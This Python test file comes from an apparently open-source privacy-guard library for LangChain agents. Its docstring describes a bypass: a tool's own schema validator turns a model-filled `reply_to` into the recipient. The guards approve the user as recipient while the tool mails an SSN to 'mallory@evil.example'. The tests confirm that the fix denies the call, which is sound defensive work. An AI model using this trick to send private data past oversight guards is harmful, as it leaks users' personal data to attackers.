"""A tool with an injected argument whose own validator moves a value into the recipient mails the SSN to mallory.

Attack. A fix of this session made vfa validate a LangChain tool's call by the tool's own `args_schema` (validators and
all), but only where the model writes every field of it. A tool that also takes an injected argument (here the
call id, `InjectedToolCallId`, which needs no privacy declaration; `InjectedState`, `InjectedStore` and
`ToolRuntime` alike) is validated by the model-visible copy LangChain makes of its schema: the fields alone,
without the schema's validators. The tool itself validates by its own schema. So a validator that moves a value
from one argument into another (here, a `reply_to` the model may fill is taken as the recipient, a common
"reply to the sender" convenience) changes what the tool reads after every guard has judged it:

    send_email(to="me@home.example", reply_to="mallory@evil.example", body="«ssn:...»")

The guards judge `to` = the user, who may read the SSN and is the user's own word; `reply_to` is disclosed to
`to` like any argument the sink does not name, so nothing is denied. The tool's validator makes `to`
mallory, and the tool, given the SSN's value for its handle, mails it to her. The audit of the journal
validates with the same copy and reports nothing.

Why it matters. A recipient (an authority argument) is driven by a value the guards never read as one, so
private data reaches a sink the policy forbids, live under `guard_graph` and `GuardMiddleware`, and the audit
agrees with the live guard only in seeing nothing.

Expected. The guards judge what the tool will read: the call is validated by the tool's own schema, its
injected arguments left to the ToolNode (optional for the check), so `to` is judged as mallory and denied.

Fixed: beside injected arguments, the visible copy validates the call by a subclass of the tool's
`args_schema` with the injected fields optional and takes the visible arguments as it made them; a validator
that needs an injected value denies the call with the reason (`vfa._lc_tools._as_the_tool_reads`).
"""

from __future__ import annotations

from typing import Annotated, Any

import pytest
from _schema_mail import CFG, MALLORY, USER, middleware_denies, profile_then_mail, retrofit_denies, ssn_handle
from langchain.agents import create_agent
from langchain_core.messages import AIMessage, HumanMessage
from langchain_core.tools import InjectedToolCallId, StructuredTool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.prebuilt import InjectedState
from pydantic import BaseModel, model_validator

import graphs
from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
from vfa.testing import ScriptedModel



def _reply_to(data: Any) -> Any:
    """A reply goes to `reply_to` when one is given (the schema's convenience)."""
    if isinstance(data, dict) and data.get("reply_to"):
        data = {**data, "to": data["reply_to"]}
    return data


class CallIdArgs(BaseModel):
    to: str
    body: str
    reply_to: str = ""
    call_id: Annotated[str, InjectedToolCallId]

    _reply = model_validator(mode="before")(classmethod(lambda cls, data: _reply_to(data)))


class StateArgs(BaseModel):
    to: str
    body: str
    reply_to: str = ""
    state: Annotated[dict, InjectedState]

    _reply = model_validator(mode="before")(classmethod(lambda cls, data: _reply_to(data)))


def _mail(schema: type[BaseModel], sent: list[Any]) -> Any:
    def send_email(to: str, body: str, reply_to: str = "", **injected: Any) -> str:
        """Send an e-mail."""
        sent.append((to, body))
        return "sent"

    internal = ["state"] if "state" in schema.model_fields else []
    fn = privacy_sink(disclose={"body": "to"}, authority=["to"], internal=internal)(privacy_source()(send_email))
    return StructuredTool.from_function(fn, name="send_email", args_schema=schema)


# the user where the guards look, mallory where the tool's validator reads
_rule = profile_then_mail(lambda shown: {"to": USER, "reply_to": MALLORY, "body": ssn_handle(shown)})


@pytest.mark.parametrize("schema", [CallIdArgs, StateArgs], ids=lambda s: s.__name__)
def test_retrofit_validator_beside_injected_arg_does_not_pick_the_recipient(schema: type[BaseModel]) -> None:
    sent: list[Any] = []
    retrofit_denies(_rule, _mail(schema, sent), sent)


@pytest.mark.parametrize("schema", [CallIdArgs, StateArgs], ids=lambda s: s.__name__)
def test_middleware_validator_beside_injected_arg_does_not_pick_the_recipient(schema: type[BaseModel]) -> None:
    sent: list[Any] = []
    middleware_denies(_rule, _mail(schema, sent), sent)


def test_validator_needing_an_injected_value_denies_with_its_reason() -> None:
    """What a validator reading the injected state makes without it is not known: the call is denied, saying
    why, never raised into the graph."""

    class Needs(BaseModel):
        to: str
        body: str
        state: Annotated[dict, InjectedState]

        @model_validator(mode="after")
        def _has_messages(self) -> Any:
            assert isinstance(self.state.get("messages"), list)
            return self

    sent: list[Any] = []
    flow = PrivacyFlow(PrivacyPolicy.of(USER), secret=b"rt167")
    mw = graphs.GuardMiddleware([flow.guard()], flow=flow)

    def rule(messages: list[Any]) -> Any:
        if any(m.type == "tool" for m in messages):
            return AIMessage("done")
        return AIMessage("", tool_calls=[{"name": "send_email", "id": "c1", "args": {"to": USER, "body": "hi"}}])

    app = create_agent(ScriptedModel(rule=rule), [_mail(Needs, sent)], middleware=[mw], checkpointer=InMemorySaver())
    reply = [m for m in app.invoke({"messages": [HumanMessage("Say hi to me.")]}, CFG)["messages"] if m.type == "tool"][-1]
    assert reply.artifact["vfa"]["outcome"] == "denied" and sent == []
    assert "without its injected arguments" in reply.content
